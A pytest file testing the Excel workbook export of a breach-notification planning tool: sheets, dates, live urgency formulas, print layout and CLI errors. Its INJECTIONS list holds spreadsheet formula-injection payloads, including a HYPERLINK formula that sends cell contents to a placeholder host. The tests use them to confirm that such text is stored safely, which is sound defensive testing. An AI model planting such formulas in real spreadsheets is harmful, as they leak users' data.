"""The Excel export: reopen the bytes with openpyxl and check what counsel will open.

Each test reads the workbook back rather than trusting the writer: sheets, types, formats,
the formula-based urgency colors, print settings, and that text from a user or a file is
never stored as a formula.
"""

from __future__ import annotations

import errno
import io
import re
from dataclasses import replace
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from notifyplanner.cli import SAMPLE_INCIDENT, main
from notifyplanner.engine import plan as make_plan
from notifyplanner.export.workbook.cells import keep_with_next
from notifyplanner.export.workbook.obligations import LOOKS
from notifyplanner.export.xlsx import (
    FORMULA_PREFIXES,
    WEEKLY_AFTER_DAYS,
    plan_to_xlsx,
    set_text,
    sheet_title,
)
from notifyplanner.incident_file import read_incident
from notifyplanner.model import CheckLevel, DeadlineKind, Incident, Plan, Rulebook, Status
from notifyplanner.report import DISCLAIMER, STATUS_WORDS
from tests.jurisdictions.statute import plan_for

MADE_ON = date(2026, 10, 20)
SHEETS = [
    "Summary",
    "Obligations",
    "Details",
    "Timeline",
    "Residents",
    "Credit monitoring",
    "Filings",
    "Sources",
]
INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def sample_plan(rulebook: Rulebook) -> Plan:
    return make_plan(read_incident(SAMPLE_INCIDENT), rulebook)


@pytest.fixture(scope="module")
def sample_book(sample_plan: Plan, rulebook: Rulebook) -> Workbook:
    return load_workbook(io.BytesIO(plan_to_xlsx(sample_plan, rulebook, made_on=MADE_ON)))


def reopen(plan: Plan, rulebook: Rulebook) -> Workbook:
    return load_workbook(io.BytesIO(plan_to_xlsx(plan, rulebook, made_on=MADE_ON)))


def headers(ws: Worksheet, row: int = 1) -> dict[str, int]:
    """Header text -> column number."""
    return {c.value: c.column for c in ws[row] if c.value is not None}


def column(ws: Worksheet, name: str, first: int = 2, last: int | None = None) -> list:
    col = headers(ws)[name]
    last = last or ws.max_row
    return [ws.cell(row=r, column=col).value for r in range(first, last + 1)]


def row_of(ws: Worksheet, label: str, col: int = 1) -> int:
    for cells in ws.iter_rows(min_col=col, max_col=col):
        if cells[0].value == label:
            return cells[0].row
    raise AssertionError(f"no row labelled {label!r} on {ws.title}")


def table_rows(ws: Worksheet, name: str) -> int:
    """The last row a table covers."""
    ref = ws.tables[name].ref
    return int(re.search(r"(\d+)$", ref).group(1))  # type: ignore[union-attr]


# --------------------------------------------------------------------------- structure


def test_returns_xlsx_bytes_and_every_sheet(sample_book: Workbook, sample_plan: Plan, rulebook: Rulebook):
    data = plan_to_xlsx(sample_plan, rulebook, made_on=MADE_ON)
    assert isinstance(data, bytes) and data[:2] == b"PK"
    assert sample_book.sheetnames == SHEETS


def test_same_plan_same_bytes(sample_plan: Plan, rulebook: Rulebook):
    """Pure: no clock inside, not even in the file's own timestamps."""
    first = plan_to_xlsx(sample_plan, rulebook, made_on=MADE_ON)
    assert plan_to_xlsx(sample_plan, rulebook, made_on=MADE_ON) == first
    props = load_workbook(io.BytesIO(first)).properties
    assert props.modified == datetime(2026, 10, 20)


@pytest.mark.parametrize(
    "sheet", ["Obligations", "Details", "Residents", "Credit monitoring", "Filings", "Sources"]
)
def test_header_bold_and_frozen(sample_book: Workbook, sheet: str):
    ws = sample_book[sheet]
    assert all(cell.font.bold for cell in ws[1] if cell.value is not None)
    assert ws.freeze_panes is not None and ws.freeze_panes.endswith("2")


def test_obligations_is_a_checklist_and_details_hold_the_rest(sample_book: Workbook, sample_plan: Plan):
    """Issue 12 item 5: who, when, send-by, status, sent on, owner on the checklist; reason,
    computation, citation and notes on the Details sheet, keyed by the same # and id."""
    ws, details = sample_book["Obligations"], sample_book["Details"]
    assert list(headers(ws)) == [
        "#",
        "Where",
        "Recipient",
        "Office",
        "Status",
        "Deadline",
        "Time due (UTC offset)",
        "Send by (practical)",
        "Days left",
        "Urgency (live)",
        "Sent on",
        "Owner",
    ]
    for expected in (
        "#",
        "Where",
        "Obligation id",
        "Recipient",
        "Status",
        "Reason",
        "Computation",
        "Citation",
        "Notes",
        "Jurisdiction",
        "Deadline kind",
        "Rule in force since",
        "What the notice must contain",
        "How to file",
        "Rule enacted by",
        "Citation link",
    ):
        assert expected in headers(details), expected
    last = len(sample_plan.obligations) + 1
    assert all(v is None for v in column(ws, "Sent on", last=last))
    assert all(v is None for v in column(ws, "Owner", last=last))
    assert column(ws, "#", last=last) == column(details, "#", last=last) == list(range(1, last))
    assert column(ws, "Where", last=last) == column(details, "Where", last=last)
    assert column(ws, "Recipient", last=last) == column(details, "Recipient", last=last)
    assert sorted(column(details, "Obligation id", last=last)) == sorted(
        o.key for o in sample_plan.obligations
    )
    by_key = {o.key: o for o in sample_plan.obligations}
    keys, reasons = column(details, "Obligation id", last=last), column(details, "Reason", last=last)
    for key, reason in zip(keys, reasons, strict=True):
        assert reason == by_key[key].reason


def test_checklist_rows_are_one_or_two_lines(sample_book: Workbook, sample_plan: Plan):
    """Rows of normal height: the checklist once ran 80-258 points a row, five to a page."""
    ws = sample_book["Obligations"]
    heights = [ws.row_dimensions[r].height for r in range(2, len(sample_plan.obligations) + 2)]
    assert max(heights) <= 3 * 12.75 + 3
    assert sum(h <= 2 * 12.75 + 3 for h in heights) >= 0.9 * len(heights)


def test_obligations_table_covers_every_row(sample_book: Workbook, sample_plan: Plan):
    ws = sample_book["Obligations"]
    table = ws.tables["Obligations"]
    last_col = ws.cell(row=1, column=len(headers(ws))).column_letter
    assert table.ref == f"A1:{last_col}{len(sample_plan.obligations) + 1}"
    assert [c.name for c in table.tableColumns] == list(headers(ws))
    assert ws.freeze_panes == "C2"


def test_table_names_are_valid_excel_names(sample_book: Workbook):
    names = [name for ws in sample_book.worksheets for name in ws.tables]
    assert set(names) == {"Obligations", "Details", "Residents", "CreditMonitoring", "Filings", "Sources"}
    for name in names:
        assert re.fullmatch(r"[A-Za-z_][A-Za-z0-9_.]{0,254}", name)
        assert not re.fullmatch(r"[A-Za-z]{1,3}\d+|[RrCc]\d*", name)  # never a cell reference


def test_dates_are_real_excel_dates(sample_book: Workbook, sample_plan: Plan):
    ws = sample_book["Obligations"]
    col = headers(ws)["Deadline"]
    by_key = {o.key: o for o in sample_plan.obligations}
    keys = column(sample_book["Details"], "Obligation id", last=len(sample_plan.obligations) + 1)
    seen = 0
    for row, key in enumerate(keys, start=2):
        cell = ws.cell(row=row, column=col)
        expected = by_key[key].deadline
        if expected is None:
            assert isinstance(cell.value, str)  # words: no fixed date, with another notice...
            continue
        seen += 1
        assert cell.is_date and cell.number_format.startswith("yyyy-mm-dd")
        assert cell.value == datetime.combine(expected, datetime.min.time())
        assert cell.number_format.endswith('" *"') == by_key[key].conservative
    assert seen >= 10
    sent = ws.cell(row=2, column=headers(ws)["Sent on"])
    assert sent.number_format == "yyyy-mm-dd"


def test_no_fixed_deadline_is_words_not_a_number(sample_book: Workbook, sample_plan: Plan):
    last = len(sample_plan.obligations) + 1
    kinds = column(sample_book["Details"], "Deadline kind", last=last)
    undated = [o for o in sample_plan.obligations if o.deadline_kind is DeadlineKind.NO_FIXED_DEADLINE]
    assert undated and kinds.count("no fixed date") == len(undated)
    assert column(sample_book["Obligations"], "Deadline", last=last).count("no fixed date") == len(undated)


def test_urgency_colors_are_formulas_against_today(sample_book: Workbook):
    ws = sample_book["Obligations"]
    rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
    assert all(rule.type == "expression" and rule.stopIfTrue for rule in rules)
    assert len(rules) == len(LOOKS)
    urgency = ws.cell(row=2, column=headers(ws)["Urgency (live)"])
    assert urgency.data_type == "f" and "TODAY()" in urgency.value and "-TODAY()<=7" in urgency.value
    letter = urgency.column_letter
    assert all(f"${letter}2" in rule.formula[0] for rule in rules)  # colours follow the live column
    # No color baked in: data cells carry no fill except the two columns the team fills in.
    team = {headers(ws)["Sent on"], headers(ws)["Owner"]}
    for cells in ws.iter_rows(min_row=2, max_row=ws.max_row):
        for cell in cells:
            if cell.column not in team:
                assert cell.fill.fill_type is None, cell.coordinate


def test_days_left_is_a_live_formula(sample_book: Workbook):
    ws = sample_book["Obligations"]
    cell = ws.cell(row=2, column=headers(ws)["Days left"])
    assert cell.data_type == "f" and "TODAY()" in cell.value


def test_detail_columns_grouped_not_lost(sample_book: Workbook):
    ws = sample_book["Details"]
    letter = ws.cell(row=1, column=headers(ws)["What the notice must contain"]).column_letter
    dim = ws.column_dimensions[letter]
    assert dim.outlineLevel == 1 and dim.hidden
    assert not ws.column_dimensions["A"].hidden
    assert not ws.column_dimensions[ws.cell(row=1, column=headers(ws)["Reason"]).column_letter].hidden


# --------------------------------------------------------------------------- print


@pytest.mark.parametrize("sheet", SHEETS)
def test_print_setup(sample_book: Workbook, sheet: str):
    ws = sample_book[sheet]
    assert ws.page_setup.orientation == "landscape"
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert int(ws.page_setup.fitToWidth) >= 1 and int(ws.page_setup.fitToHeight) == 0
    footer = ws.oddFooter
    assert "Sample: telehealth pharmacy ransomware (fictional)" in footer.left.text
    assert "&P" in footer.center.text and "&N" in footer.center.text
    if sheet not in ("Summary", "Timeline"):
        assert ws.print_title_rows.replace("$", "") == "1:1"


def test_obligations_print_fits_one_page_wide(sample_book: Workbook):
    assert int(sample_book["Obligations"].page_setup.fitToWidth) == 1


def test_footer_escapes_ampersands(rulebook: Rulebook):
    plan = make_plan(Incident(name="Smith & Wesson &P leak", discovered=date(2026, 1, 5)), rulebook)
    ws = reopen(plan, rulebook)["Obligations"]
    assert ws.oddFooter.left.text == "Smith && Wesson &&P leak"


# --------------------------------------------------------------------------- summary and other sheets


def test_summary_facts_counts_rules_and_disclaimer(sample_book: Workbook, sample_plan: Plan):
    ws = sample_book["Summary"]
    assert ws["A2"].value == DISCLAIMER
    assert ws.cell(row=row_of(ws, "Incident"), column=2).value == sample_plan.incident.name
    made = ws.cell(row=row_of(ws, "Plan made on"), column=2)
    assert made.is_date and made.value == datetime(2026, 10, 20)
    controlling = ws.cell(row=row_of(ws, "Earliest fixed deadline"), column=2)
    assert controlling.value == datetime.combine(sample_plan.controlling_deadline, datetime.min.time())
    for status in Status:
        assert ws.cell(row=row_of(ws, STATUS_WORDS[status]), column=2).value == len(
            sample_plan.by_status(status)
        )
    overdue = ws.cell(row=row_of(ws, "overdue today (live)"), column=2)
    assert overdue.data_type == "f" and overdue.value.startswith("=COUNTIF('Obligations'!$J$2:")
    assert ws.cell(row=row_of(ws, "due within 7 days (live)"), column=2).value.endswith(',"due soon")')
    start = row_of(ws, "Jurisdiction")
    listed = {ws.cell(row=r, column=1).value.split(" – ")[0]: r for r in range(start + 1, ws.max_row + 1)}
    for version in sample_plan.versions:
        row = listed[version.jurisdiction]
        assert ws.cell(row=row, column=2).value.date() == version.effective_from
        assert ws.cell(row=row, column=3).value.date() == version.last_reviewed


def test_residents_counts_and_total(sample_book: Workbook, sample_plan: Plan):
    ws = sample_book["Residents"]
    residents = sample_plan.incident.residents
    last = table_rows(ws, "Residents")
    assert last == len(residents) + 1
    counts = dict(zip(column(ws, "Where", last=last), column(ws, "Residents", last=last), strict=True))
    assert counts == {code: (n if n is not None else "unknown") for code, n in residents.items()}
    total_row = row_of(ws, "Total (known counts)", col=2)
    assert total_row == last + 1
    assert ws.cell(row=total_row, column=3).value == sum(n for n in residents.values() if n is not None)
    assert ws.cell(row=total_row + 1, column=3).value == sample_plan.incident.total_affected


def test_credit_monitoring_rows(sample_book: Workbook, sample_plan: Plan):
    ws = sample_book["Credit monitoring"]
    duties = sample_plan.credit_monitoring
    assert duties, "the sample owes credit monitoring in California"
    last = table_rows(ws, "CreditMonitoring")
    assert last == len(duties) + 1
    rows = {
        ws.cell(row=r, column=1).value: [ws.cell(row=r, column=c).value for c in range(1, 12)]
        for r in range(2, last + 1)
    }
    for duty in duties:
        row = rows[duty.jurisdiction]
        assert row[2] == STATUS_WORDS[duty.status]
        assert row[3] == duty.months
        assert row[9] == duty.citation.cite
        if duty.starts:
            assert row[4].date() == duty.starts and row[5].date() == duty.ends


def test_sources_list_every_citation_and_url(sample_book: Workbook, sample_plan: Plan):
    ws = sample_book["Sources"]
    last = table_rows(ws, "Sources")
    cites = set(column(ws, "Citation", last=last))
    urls = set(column(ws, "Address", last=last))
    wanted = (
        [o.citation for o in sample_plan.obligations]
        + [d.citation for d in sample_plan.credit_monitoring]
        + [v.statute for v in sample_plan.versions]
    )
    for citation in wanted:
        assert citation.cite in cites
        assert citation.url in urls


def test_sources_say_how_each_citation_was_checked_and_where_it_was_read(
    sample_book: Workbook, sample_plan: Plan
):
    ws = sample_book["Sources"]
    last = table_rows(ws, "Sources")
    rows = zip(
        column(ws, "Citation", last=last),
        column(ws, "Checked against", last=last),
        column(ws, "Text read at", last=last),
        strict=True,
    )
    seen = {cite: (checked, read_at or "") for cite, checked, read_at in rows}
    for ob in sample_plan.obligations:
        checked, read_at = seen[ob.citation.cite]
        # a pin cite shared by several values shows the weakest check among them
        level = next(level for level in CheckLevel if level.label == checked)
        assert level.rank >= ob.citation.checked.rank
        assert bool(read_at) >= bool(ob.citation.read_at)
    links = [ws.cell(row=r, column=headers(ws)["Link"]) for r in range(2, last + 1)]
    assert all(cell.hyperlink and cell.hyperlink.target.startswith("http") for cell in links)


def test_timeline_daily_grid_with_today_formula(sample_book: Workbook, sample_plan: Plan):
    ws = sample_book["Timeline"]
    assert "◆ deadline" in ws["A1"].value and "One column per day" in ws["A2"].value
    first_day = ws["D3"]
    assert first_day.is_date and first_day.value.date() == sample_plan.incident.discovered
    rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
    assert rules and all("TODAY()" in rule.formula[0] for rule in rules)
    dated = [o for o in sample_plan.obligations if o.deadline and o.status is not Status.NOT_REQUIRED]
    assert ws.max_row == 3 + len(dated)
    # The deadline cell of each row is marked, the days before it filled.
    row = 4
    deadline = ws.cell(row=row, column=3).value.date()
    mark_col = 4 + (deadline - sample_plan.incident.discovered).days
    assert ws.cell(row=row, column=mark_col).value == "◆"
    assert ws.cell(row=row, column=4).fill.fill_type is not None
    assert ws.cell(row=row, column=mark_col + 1).value is None


def test_timeline_goes_weekly_for_a_long_span(sample_plan: Plan, rulebook: Rulebook):
    start = sample_plan.incident.discovered
    far = start + timedelta(days=WEEKLY_AFTER_DAYS + 200)
    ob = next(o for o in sample_plan.obligations if o.deadline and o.status is Status.REQUIRED)
    long_plan = replace(sample_plan, obligations=(*sample_plan.obligations, replace(ob, deadline=far)))
    ws = reopen(long_plan, rulebook)["Timeline"]
    assert "One column per week" in ws["A2"].value and str(WEEKLY_AFTER_DAYS) in ws["A2"].value
    assert (ws["E3"].value - ws["D3"].value).days == 7
    rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
    assert all("TODAY()" in rule.formula[0] for rule in rules)


def test_empty_incident_still_exports(rulebook: Rulebook):
    book = reopen(make_plan(Incident(), rulebook), rulebook)
    assert book.sheetnames == SHEETS
    assert book["Timeline"]["A1"].value.startswith("No timeline")
    assert (
        book["Summary"].cell(row=row_of(book["Summary"], "Incident"), column=2).value == "(unnamed incident)"
    )


def test_small_statute_case_exports(rulebook: Rulebook):
    plan = plan_for("TX", discovered="2024-03-01", determined="2024-03-05", residents=250)
    book = reopen(plan, rulebook)
    ws = book["Obligations"]
    assert table_rows(ws, "Obligations") == len(plan.obligations) + 1
    assert "TX" in column(ws, "Where", last=len(plan.obligations) + 1)


# --------------------------------------------------------------------------- injection


@pytest.mark.parametrize("payload", INJECTIONS)
def test_user_text_is_never_a_formula(payload: str, rulebook: Rulebook):
    incident = Incident(name=payload, notes=payload, discovered=date(2026, 3, 2), residents={"TX": 300})
    book = reopen(make_plan(incident, rulebook), rulebook)
    ws = book["Summary"]
    for label in ("Incident", "Notes"):
        cell = ws.cell(row=row_of(ws, label), column=2)
        assert cell.data_type == "s"
        assert cell.value == payload.replace("\r", "\n")  # XML keeps no bare CR; Excel breaks lines on LF
        assert cell.quotePrefix  # stays text when someone edits the cell in Excel
    assert payload.strip() in book["Obligations"].oddFooter.left.text.replace("&&", "&")
    assert all(
        c.data_type != "f" for r in ws.iter_rows(min_col=2, max_col=2, max_row=30) for c in r if c.value
    )


def test_no_cell_outside_our_own_formulas_is_a_formula(rulebook: Rulebook):
    incident = Incident(
        name=INJECTIONS[0], notes="@SUM(A1)", discovered=date(2026, 3, 2), residents={"CA": 10}
    )
    book = reopen(make_plan(incident, rulebook), rulebook)
    for ws in book.worksheets:
        for cells in ws.iter_rows():
            for cell in cells:
                if cell.data_type == "f":
                    assert "HYPERLINK" not in cell.value and "SUM(A1)" not in cell.value
                    assert "TODAY()" in cell.value or "COUNT" in cell.value, (ws.title, cell.coordinate)


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_set_text_forces_string_type(prefix: str):
    ws = Workbook().active
    expected = (prefix + "1+1").replace("\r", "\n")
    cell = set_text(ws["A1"], prefix + "1+1")
    assert cell.data_type == "s" and cell.value == expected and cell.quotePrefix
    buffer = io.BytesIO()
    ws.parent.save(buffer)
    again = load_workbook(buffer).active["A1"]
    assert again.data_type == "s" and again.value == expected


def test_control_characters_are_replaced_visibly_not_fatal(rulebook: Rulebook):
    incident = Incident(name="bell\x07 and nul\x00", notes="ok", discovered=date(2026, 3, 2))
    ws = reopen(make_plan(incident, rulebook), rulebook)["Summary"]
    assert ws.cell(row=row_of(ws, "Incident"), column=2).value == "bell\ufffd and nul\ufffd"


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("Credit monitoring", "Credit monitoring"),
        ("a/b:c*d?[e]\\f", "a b c d e f"),
        ("'quoted'", "quoted"),
        ("x" * 40, "x" * 31),
        ("", "Sheet"),
    ],
)
def test_sheet_titles_are_sanitized(raw: str, clean: str):
    assert sheet_title(raw) == clean


# --------------------------------------------------------------------------- CLI


def test_cli_writes_the_workbook_atomically(tmp_path: Path, capsys):
    out = tmp_path / "plan.xlsx"
    out.write_bytes(b"an older export")
    assert main(["plan", str(SAMPLE_INCIDENT), "--today", "2026-10-20", "--xlsx", str(out)]) == 0
    assert load_workbook(out).sheetnames == SHEETS
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx"]  # no temp file left behind
    assert "Notification plan" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("target", "words"),
    [
        ("missing-folder/plan.xlsx", "does not exist"),
        (".", "is a folder"),
        ("file.txt/plan.xlsx", "not a folder"),
    ],
)
def test_cli_unwritable_target_is_one_clear_line(tmp_path: Path, capsys, target: str, words: str):
    (tmp_path / "file.txt").write_text("x")
    code = main(["plan", str(SAMPLE_INCIDENT), "--xlsx", str(tmp_path / target)])
    err = capsys.readouterr().err
    assert code == 2
    assert err.count("\n") == 1 and err.startswith("notifyplanner: ") and words in err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("error", "words"),
    [
        (OSError(errno.ENOSPC, "No space left on device"), "the disk is full"),
        (PermissionError(errno.EACCES, "Permission denied"), "is the file open in Excel"),
    ],
)
def test_cli_full_disk_or_open_file_is_one_clear_line(tmp_path: Path, capsys, monkeypatch, error, words):
    """A full disk or a file Excel holds open (Windows refuses the rename) cannot be staged as
    root on Linux, so the write itself is made to fail the way the OS would."""

    def refuse(path, payload):  # the signature of atomic_write_bytes
        raise error

    monkeypatch.setattr("notifyplanner.cli.atomic_write_bytes", refuse)
    code = main(["plan", str(SAMPLE_INCIDENT), "--xlsx", str(tmp_path / "plan.xlsx")])
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1 and words in err


def test_summary_lists_the_decisions_and_answers(rulebook: Rulebook):
    from tests.jurisdictions.statute import four_factor, no_harm

    decided = plan_for(
        "FL",
        role="covered_entity",
        discovered="2024-03-01",
        residents={"FL": 10, "OK": None},
        hhs_notified="2024-03-25",
        attributes={"information_broker": False},
        decisions=(four_factor("2024-03-20"), no_harm("FL", "2024-03-21")),
    )
    ws = reopen(decided, rulebook)["Summary"]
    assert ws.cell(row_of(ws, "HHS Secretary notified"), 2).value == datetime(2024, 3, 25)
    assert "HIPAA four-factor assessment: no notice, 2024-03-20" in ws.cell(row_of(ws, "Decisions"), 2).value
    assert "No-risk-of-harm determination (FL)" in ws.cell(row_of(ws, "Decisions"), 2).value
    assert "third parties: no" in ws.cell(row_of(ws, "Entity and circumstances"), 2).value
    assert ws.cell(row_of(ws, "People affected"), 2).value == "at least 10 (some counts unknown)"


def test_cli_carries_the_due_soon_window_into_the_workbook(tmp_path: Path):
    out = tmp_path / "plan.xlsx"
    args = ["plan", str(SAMPLE_INCIDENT), "--today", "2026-10-20", "--xlsx", str(out)]
    assert main([*args, "--due-soon-days", "3"]) == 0
    ws = load_workbook(out)["Obligations"]
    assert "-TODAY()<=3," in ws.cell(row=2, column=headers(ws)["Urgency (live)"]).value


@pytest.mark.parametrize(("value", "words"), [("-1", "0 to 365 days"), ("soon", "whole number of days")])
def test_cli_refuses_a_window_that_is_not_days(tmp_path: Path, capsys, value: str, words: str):
    out = tmp_path / "plan.xlsx"
    with pytest.raises(SystemExit) as stop:
        main(["plan", str(SAMPLE_INCIDENT), "--xlsx", str(out), "--due-soon-days", value])
    err = capsys.readouterr().err
    assert stop.value.code == 2 and words in err and "Traceback" not in err
    assert not out.exists()


def test_summary_heading_never_ends_a_printed_page(rulebook: Rulebook):
    """Issue 12 item 5: a heading left alone at the foot of page 1. Every manual break sits
    just before a section heading, and the sample's Summary gets the breaks it needs."""
    plan = make_plan(read_incident(SAMPLE_INCIDENT), rulebook)
    ws = reopen(plan, rulebook)["Summary"]
    breaks = [b.id + 1 for b in ws.row_breaks.brk]
    assert breaks, "the sample's Summary runs past one page"
    for row in breaks:
        assert ws.cell(row=row, column=1).font.size == 12  # a section heading starts the page


def test_keep_with_next_moves_a_heading_that_would_end_a_page():
    def sheet() -> Worksheet:
        ws = Workbook().active
        for r in range(1, 80):
            ws.row_dimensions[r].height = 15
        return ws

    # A page holds (8.5 - 1.1) in * 72 = 532.8 pt: 35 rows of 15 pt at full scale.
    near_the_foot = sheet()
    assert keep_with_next(near_the_foot, [(34, 5)], 79, [10]) == [34]
    assert [b.id for b in near_the_foot.row_breaks.brk] == [33]
    assert keep_with_next(sheet(), [(5, 5)], 79, [10]) == []  # room enough: no break
    # Past the printer's own break (row 36 starts page 2), the count starts again.
    assert keep_with_next(sheet(), [(40, 5)], 79, [10]) == []


def test_a_register_case_workbook_names_its_log_head(sample_plan: Plan, rulebook: Rulebook):
    head = "0123456789abcdef" * 4
    book = load_workbook(io.BytesIO(plan_to_xlsx(sample_plan, rulebook, made_on=MADE_ON, log_head=head)))
    assert (book["Summary"]["A4"].value, book["Summary"]["B4"].value) == ("Register log head", head)
    assert all(ws.oddFooter.right.text.endswith(f"· log {head[:16]}") for ws in book.worksheets)
    plain = load_workbook(io.BytesIO(plan_to_xlsx(sample_plan, rulebook, made_on=MADE_ON)))
    assert plain["Summary"]["A4"].value is None and "log" not in plain["Summary"].oddFooter.right.text


SECTOR_SAMPLE = (
    Path(__file__).resolve().parents[1] / "resources" / "samples" / "public-insurer-sec-nydfs-gdpr.json"
)


def test_hours_clock_rows_show_the_time_due_and_its_offset(rulebook: Rulebook):
    """Issue 13: a 72-hour notice is due at an hour; the checklist and Details say which."""
    sector = make_plan(read_incident(SECTOR_SAMPLE), rulebook)
    book = reopen(sector, rulebook)
    ws, details = book["Obligations"], book["Details"]
    last = len(sector.obligations) + 1
    ids = column(details, "Obligation id", last=last)
    row = {key: number for number, key in enumerate(ids, start=2)}
    nydfs, ny = row["NYDFS/superintendent"], row["NY/individuals"]
    assert ws.cell(row=nydfs, column=headers(ws)["Time due (UTC offset)"]).value == "08:00 (UTC-05:00)"
    deadline = ws.cell(row=nydfs, column=headers(ws)["Deadline"]).value
    assert isinstance(deadline, datetime) and deadline.date() == date(2026, 11, 2), "still a real date"
    assert ws.cell(row=row["SEC-8K/sec"], column=headers(ws)["Time due (UTC offset)"]).value == (
        "17:30 (UTC-05:00)"
    )
    assert ws.cell(row=ny, column=headers(ws)["Time due (UTC offset)"]).value is None
    instant = details.cell(row=nydfs, column=headers(details)["Deadline instant"]).value
    assert instant == "2026-11-02 08:00 (UTC-05:00), America/New_York"
    assert details.cell(row=ny, column=headers(details)["Deadline instant"]).value is None


def test_a_sector_regulator_is_named_once_so_its_row_stays_a_checklist_row(rulebook):
    """Rendered on 2026-12-03: the NYDFS office stood in both Recipient and Office, four lines
    in a two-line row, cut off on paper. The Office cell names it; Recipient says Regulator."""
    from pathlib import Path

    from openpyxl import load_workbook

    from notifyplanner.incident_file import read_incident

    sample = (
        Path(__file__).resolve().parents[1] / "resources" / "samples" / "public-insurer-sec-nydfs-gdpr.json"
    )
    result = make_plan(read_incident(sample), rulebook)
    ws = load_workbook(io.BytesIO(plan_to_xlsx(result, rulebook, made_on=date(2026, 11, 2))))["Obligations"]
    cols = headers(ws)
    rows = {
        ws.cell(r, cols["Office"]).value: ws.cell(r, cols["Recipient"]).value
        for r in range(2, ws.max_row + 1)
    }
    explanation = "New York Superintendent of Financial Services: written explanation of an extortion payment"
    assert rows[explanation] == "Regulator"


def summary_fact(ws: Worksheet, label: str):
    return ws.cell(row_of(ws, label), 2).value


def test_summary_shows_the_entity_profile_the_sector_rules_rest_on(rulebook: Rulebook):
    """A lawyer signing the plan sees the facts the SEC, NYDFS, insurance and GDPR notices
    rest on: who the entity is, its domicile, its time zone and the instants clocks run from."""
    sector = make_plan(read_incident(SECTOR_SAMPLE), rulebook)
    ws = reopen(sector, rulebook)["Summary"]
    assert summary_fact(ws, "Entity role") == "Any other business"
    profile = summary_fact(ws, "Entity profile")
    for sector_name in sector.incident.sectors:
        assert sector_name.label in profile
    assert profile.index("Public company") < profile.index("EU GDPR"), "the form's order, not A-Z"
    assert summary_fact(ws, "Insurance domicile") == "NY (New York)"
    assert summary_fact(ws, "Time zone") == "America/New_York"
    times = summary_fact(ws, "Times (hours clocks)")
    assert "discovered at 2026-10-29 22:40 (UTC-04:00)" in times
    assert "extortion paid at 2026-10-31 12:00 (UTC-04:00)" in times
    assert summary_fact(ws, "8-K materiality date") == datetime(2026, 11, 24)
    assert summary_fact(ws, "8-K delay ends") == "none (no Attorney General delay)"


def test_a_missing_entity_fact_reads_not_given_never_blank(rulebook: Rulebook):
    """Profile not answered, no contacts: each fact says so, so a reader can tell a missing
    fact from a printing fault."""
    bare = make_plan(Incident(name="bare"), rulebook)
    ws = reopen(bare, rulebook)["Summary"]
    assert summary_fact(ws, "Entity profile").startswith("not given")
    for label in (
        "Organisation name",
        "Contacts",
        "Insurance domicile",
        "Time zone",
        "Times (hours clocks)",
        "8-K materiality date",
        "What happened",
        "Steps taken",
    ):
        assert summary_fact(ws, label) == "not given", label
    first, last = row_of(ws, "Incident") + 1, row_of(ws, "Controlling deadline") - 1
    for row in range(first, last):
        label = ws.cell(row, 1).value
        assert label is not None and ws.cell(row, 2).value not in (None, ""), f"row {row} {label!r} blank"


def test_an_answered_profile_says_what_does_not_apply(rulebook: Rulebook):
    """An empty profile is an answer ("none of these"), not a missing one: it reads so."""
    answered = make_plan(Incident(name="clinic", sectors=frozenset()), rulebook)
    ws = reopen(answered, rulebook)["Summary"]
    assert summary_fact(ws, "Entity profile").startswith("none of the listed sectors")
    assert summary_fact(ws, "Insurance domicile") == "none: not an insurance licensee"
    assert summary_fact(ws, "8-K materiality date") == "none: not a public company"


def test_summary_gives_the_controlling_deadlines_time_when_it_is_an_instant(rulebook: Rulebook):
    """Rendered on 2026-12-03: the Summary gave NYDFS's 24 hours as "2026-11-01" alone, while
    the PDF, the calendar and the Obligations sheet say 11:00 (UTC-05:00); a reader of the
    Summary would think the whole day was left."""
    sector = make_plan(read_incident(SECTOR_SAMPLE), rulebook)
    ws = reopen(sector, rulebook)["Summary"]
    row = row_of(ws, "Time due (UTC offset)")
    assert row == row_of(ws, "Earliest fixed deadline") + 1
    assert ws.cell(row, 2).value == "11:00 (UTC-05:00)"
    assert "America/New_York" in ws.cell(row, 4).value
    dated = reopen(make_plan(read_incident(SAMPLE_INCIDENT), rulebook), rulebook)["Summary"]
    with pytest.raises(AssertionError):
        row_of(dated, "Time due (UTC offset)")


# --------------------------------------------------------------------------- a register case's record


@pytest.fixture(scope="module")
def hims_book(rulebook: Rulebook) -> tuple[Plan, Workbook]:
    from tests.recorded import AS_OF, HIMS, hims_records

    result = make_plan(read_incident(HIMS), rulebook)
    payload = plan_to_xlsx(result, rulebook, made_on=AS_OF, records=hims_records(result))
    return result, load_workbook(io.BytesIO(payload))


def _rows_by_key(book: Workbook, count: int) -> dict[str, dict[str, object]]:
    sheet, details = book["Obligations"], book["Details"]
    names = [c.value for c in sheet[1]]
    key_col = [c.value for c in details[1]].index("Obligation id") + 1
    return {
        details.cell(r, key_col).value: {n: sheet.cell(r, c).value for c, n in enumerate(names, start=1)}
        | {"_row": r}
        for r in range(2, count + 2)
    }


def test_a_register_case_fills_sent_on_with_the_recorded_dates(hims_book):
    from tests.recorded import SENT_ON

    result, book = hims_book
    rows = _rows_by_key(book, len(result.obligations))
    for key in ("CA/individuals", "HIPAA/individuals", "HIPAA/hhs"):
        assert rows[key]["Sent on"] == datetime.combine(SENT_ON, datetime.min.time()), key
    ws = book["Obligations"]
    cell = ws.cell(rows["HIPAA/hhs"]["_row"], [c.value for c in ws[1]].index("Sent on") + 1)
    assert cell.is_date and cell.number_format == "yyyy-mm-dd"
    # Still the team's to correct: the column keeps its date check.
    (check,) = ws.data_validations.dataValidation
    assert check.type == "date" and cell.coordinate in check.sqref
    assert rows["CA/attorney_general"]["Sent on"] is None


